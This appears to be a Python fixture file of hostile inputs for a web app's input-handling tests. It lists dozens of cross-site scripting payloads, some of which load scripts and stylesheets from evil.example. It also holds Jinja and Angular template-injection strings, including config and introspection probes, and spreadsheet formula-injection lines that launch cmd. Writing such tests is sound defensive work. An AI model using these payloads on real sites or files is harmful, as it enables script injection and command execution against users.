"""What a hostile or careless phone may type: markup and script in every form we know of, and
odd text. Used by tests/test_hostile.py, which sends each one as a question's text, name and
affiliation and checks that every page and export shows it as text.

Each entry is (short name, text). A text longer than a name may be (120 characters) goes in
as text and affiliation only. No text may contain "7777777", what `{{ 7*'7' }}` gives when a
template evaluates it."""
import unicodedata

#: script, event handlers, URLs that run code, SVG and MathML, broken markup, template syntax,
#: encoded variants: each must be stored as typed and shown as text
XSS = [
    ("script", "<script>alert(1)</script>"),
    ("script-src", "<script src=//evil.example/x.js></script>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-closes-early", "</script><script>alert(1)</script>"),
    ("script-newlines", "<script\n>alert(1)</script\n>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
    ("img-slashes", "<img/src=x/onerror=alert(1)>"),
    ("img-backticks", "<img src=`x` onerror=`alert(1)`>"),
    ("img-newlines", "<img\nsrc=x\nonerror=alert(1)>"),
    ("img-unclosed", "<img src=x onerror=alert(1)//"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-foreign-object",
     "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>'),
    ("math-href", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'),
    ("body-onload", "<body onload=alert(1)>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">rê chuột vào đây</div>'),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("video-source", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("frameset", "<frameset onload=alert(1)>"),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-data-url", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("a-javascript", '<a href="javascript:alert(1)">bấm vào đây</a>'),
    ("a-javascript-entity", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("a-javascript-tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("a-javascript-space", '<a href=" javascript:alert(1)">x</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a-data-url", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("form-action", '<form action="javascript:alert(1)"><button>Gửi</button></form>'),
    ("button-formaction", "<button formaction=javascript:alert(1)>x</button>"),
    ("style-tag", '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("style-import", "<style>@import 'http://evil.example/x.css';</style>"),
    ("style-expression", '<div style="width:expression(alert(1))">x</div>'),
    ("link-stylesheet", "<link rel=stylesheet href=http://evil.example/x.css>"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="http://evil.example/">'),
    ("attribute-break-double", '"><script>alert(1)</script>'),
    ("attribute-break-single", "'><img src=x onerror=alert(1)>"),
    ("comment-break", "--><script>alert(1)</script><!--"),
    ("comment-open", "<!-- nuốt hết phần còn lại"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("processing-instruction",
     '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)'
     "</x:script>"),
    ("textarea-break", "</textarea><script>alert(1)</script>"),
    ("title-break", "</title><script>alert(1)</script>"),
    ("json-break", '"}]</script><script>alert(1)</script>'),
    ("js-string-break", "';alert(1);//\";alert(1);//"),
    ("polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/"
                 "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>"),
    ("jinja-expression", "{{7*7}}"),
    ("jinja-string-product", "{{ 7*'7' }}"),
    ("jinja-config", "{{ config.SECRET_KEY }} {{ config }}"),
    ("jinja-statement", "{% for x in range(3) %}LẶP{% endfor %}"),
    ("jinja-introspection", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("jinja-comment", "{# giấu đi #}còn lại"),
    ("angular", "{{constructor.constructor('alert(1)')()}}"),
    ("other-templates", "${7*7} #{7*7} <%= 7*7 %> [[7*7]]"),
    ("unicode-escaped", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("hex-escaped", "\\x3cimg src=x onerror=alert(1)\\x3e"),
    ("entity-named", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("entity-decimal", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("entity-hex-unterminated", "&#x3C;img src=x onerror=alert(1)&#x3E"),
    ("percent-encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("fullwidth", "＜script＞alert(1)＜/script＞"),
    ("formula-hyperlink", '=HYPERLINK("http://evil.example","bấm")'),
    ("formula-dde-plus", "+cmd|' /C calc'!A0"),
    ("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula-minus", "-2+3+cmd|' /C calc'!A0"),
    ("formula-after-space", "  =1+2"),
    ("vietnamese-with-markup", "Học phí <b>tăng</b> bao nhiêu? <i>Xin trả lời</i> & cảm ơn"),
]

#: odd but acceptable text: stored cleaned (NFC; no control characters, bidi overrides or
#: zero-width characters) and shown as text
ODD = [
    ("control-characters", "Câu hỏi\x00 có\x07 ký\x1b tự\x7f điều\x9b khiển"),
    ("bidi-override", "Học phí \u202etăng\u202c bao nhiêu? \u2066cô lập\u2069 \u200fx"),
    ("zero-width", "Xin\u200b hỏi\u200d về\u2060 học\ufeff phí"),
    ("nfd-vietnamese", unicodedata.normalize(
        "NFD", "Học phí năm học mới có tăng không? Trường Tiểu học Lái Thiêu")),
    ("line-breaks", "Dòng một\r\nDòng hai\rDòng ba\n\n\n\nDòng bốn"),
    ("tab", "Cột một\tcột hai"),
    ("astral", "Con tôi 👧🏻 học lớp 3 𝕏 𠀀 ☎"),
    ("right-to-left", "سؤال عن الرسوم الدراسية"),
    ("script-with-controls", "<scr\x00ipt>alert(1)</scr\u200bipt>"),
]

#: the longest text a question may have (1,000 characters), all markup
LONGEST = ("<script>alert(1)</script><img src=x onerror=alert(1)>" * 20)[:1000]

#: every text that must be stored and shown as text
STORED = XSS + ODD

#: text that must be refused with a 400 and a message
BLANK = [
    ("empty", ""),
    ("spaces", "   "),
    ("whitespace", " \t\r\n \u3000 "),
    ("invisible", "\u200b\u200d\u2060\ufeff\u202e"),
    ("controls", "\x00\x01\x1b\x7f"),
]

#: request bodies that are not a usable JSON object: refused with a 400 and a message
MALFORMED_JSON = [
    ("truncated", b'{"text": "Xin h'),
    ("trailing-comma", b'{"text": "x",}'),
    ("single-quotes", b"{'text': 'x'}"),
    ("bare-word", b"text=x"),
    ("array", b'["x"]'),
    ("string", b'"x"'),
    ("number", b"42"),
    ("null", b"null"),
    ("nan", b'{"text": NaN}'),
    ("deep-nesting", b'{"text": ' + b"[" * 5000 + b"]" * 5000 + b"}"),
    ("invalid-utf8", b'{"text": "\xff\xfe\xc3\x28"}'),
    ("overlong-utf8", b'{"text": "\xc0\xbcscript\xc0\xbe"}'),
    ("lone-surrogate", b'{"text": "abc \\ud800 def"}'),
]

#: JSON of the wrong types: refused with a 400 and a message naming the field
WRONG_TYPES = [
    ("text-number", {"text": 42}),
    ("text-list", {"text": ["<script>alert(1)</script>"]}),
    ("text-object", {"text": {"<b>": "x"}}),
    ("text-true", {"text": True}),
    ("name-object", {"text": "Câu hỏi", "name": {"x": 1}}),
    ("affiliation-list", {"text": "Câu hỏi", "affiliation": ["x"]}),
    ("client-key-number", {"text": "Câu hỏi", "client_key": 12345678}),
]
